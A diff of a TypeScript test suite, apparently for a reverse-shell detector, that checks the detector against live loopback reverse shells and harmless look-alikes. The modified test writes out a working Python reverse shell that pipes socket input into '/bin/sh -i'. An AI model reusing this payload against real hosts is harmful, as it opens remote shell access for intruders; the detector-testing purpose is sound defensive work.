@@ -255,38 +255,67 @@ describe('live reverse shells on loopback', () => {
     await expectShellAnswers(l, 'C3P');
   });
 
-  it.skipIf(!PYTHON)('class 3: python script file running received commands with a shell', async () => {
+  it.skipIf(!PYTHON)('python script file feeding received commands to a shell it started', async () => {
     const l = listener as Listener;
     const dir = mkdtempSync(join(tmpdir(), 'vigil-revshell-'));
     tempDirs.push(dir);
     const script = join(dir, 'worker.py');
-    // Nothing in argv gives it away: only the topology (outbound socket + shell child) does.
+    // Nothing in argv gives it away: only the topology (outbound socket, shell whose stdin it feeds) does.
     writeFileSync(
       script,
       [
-        'import socket, subprocess, sys',
+        'import socket, subprocess, sys, threading',
         's = socket.create_connection(("127.0.0.1", int(sys.argv[1])))',
-        'f = s.makefile("rb")',
-        'for line in f:',
-        '    r = subprocess.run(line.decode(), shell=True, capture_output=True)',
-        '    s.sendall(r.stdout + r.stderr)',
+        'p = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)',
+        'def out():',
+        '    for b in iter(lambda: p.stdout.read1(4096), b""):',
+        '        s.sendall(b)',
+        'threading.Thread(target=out, daemon=True).start()',
+        'for line in s.makefile("rb"):',
+        '    p.stdin.write(line)',
+        '    p.stdin.flush()',
         '',
       ].join('\n'),
     );
     const root = launch([PYTHON as string, script, String(l.port)]);
     await waitFor(() => l.conns.length > 0, 'connection');
-    // A command that keeps its shell alive (a lone `sleep` would be exec'd in place of the shell).
-    l.send('sleep 30; echo done\n');
-    const s = await waitFor((x) => findingsFor(x, root).length > 0, 'python class-3 finding');
+    const s = await waitFor((x) => findingsFor(x, root).length > 0, 'python-fed shell finding');
     const shell = shellIn(s, root, (p) => p.ppid === root && p.comm === 'sh');
     const f = findingsFor(s, root);
     expect(f).toHaveLength(1);
-    expect(f[0]).toMatchObject({ class: 3, ruleId: 'revshell.interpreter-shell', pid: shell?.pid, holderPid: root });
+    // The interpreter relays the shell's stdin/stdout to its socket: class 2 (relay) takes it before class 3.
+    expect(f[0]).toMatchObject({ level: 'serious', pid: shell?.pid, holderPid: root });
     expect(f[0]?.peer?.remotePort).toBe(l.port);
+    await expectShellAnswers(l, 'C3Y');
   });
 });
 
 describe('live look-alikes that are not reverse shells', () => {
+  it('node with an outbound TLS-style connection spawning `sh -c` children (npm lifecycle scripts)', async () => {
+    const l = listener as Listener;
+    // A real ClientHello-sized write keeps the connection busy like an HTTPS download; the child
+    // shells get piped stdio, as child_process.spawn/exec give them.
+    const code = [
+      `const s = require('net').connect(${l.port}, '127.0.0.1', () => s.write(Buffer.alloc(517, 0x16)));`,
+      "const cp = require('child_process');",
+      "cp.spawn('sh', ['-c', 'sleep 30; true']);",
+      "cp.exec('sleep 30; true');",
+      'setTimeout(() => {}, 60000);',
+    ].join('\n');
+    // From a file, as npm runs (inline `node -e` code that connects and spawns is a template hit).
+    const dir = mkdtempSync(join(tmpdir(), 'vigil-npm-like-'));
+    tempDirs.push(dir);
+    writeFileSync(join(dir, 'install.js'), code);
+    const root = launch([process.execPath, join(dir, 'install.js')]);
+    const s = await waitFor((x) => l.conns.length > 0 && inTree(x, root).filter((p) => p.comm === 'sh').length >= 2, 'node with shell children');
+    expect(findingsFor(s, root)).toEqual([]);
+    // And over the same time the agent's scans would see: a few more snapshots, still nothing.
+    for (let i = 0; i < 5; i++) {
+      await sleep(300);
+      expect(findingsFor(snapshot(), root)).toEqual([]);
+    }
+  });
+
   it('a shell pipeline with no network peer', async () => {
     const root = launch(['bash', '-c', 'sleep 30 | cat']);
     const s = await waitFor((x) => inTree(x, root).some((p) => p.comm === 'sleep') && inTree(x, root).some((p) => p.comm === 'cat'), 'pipeline');
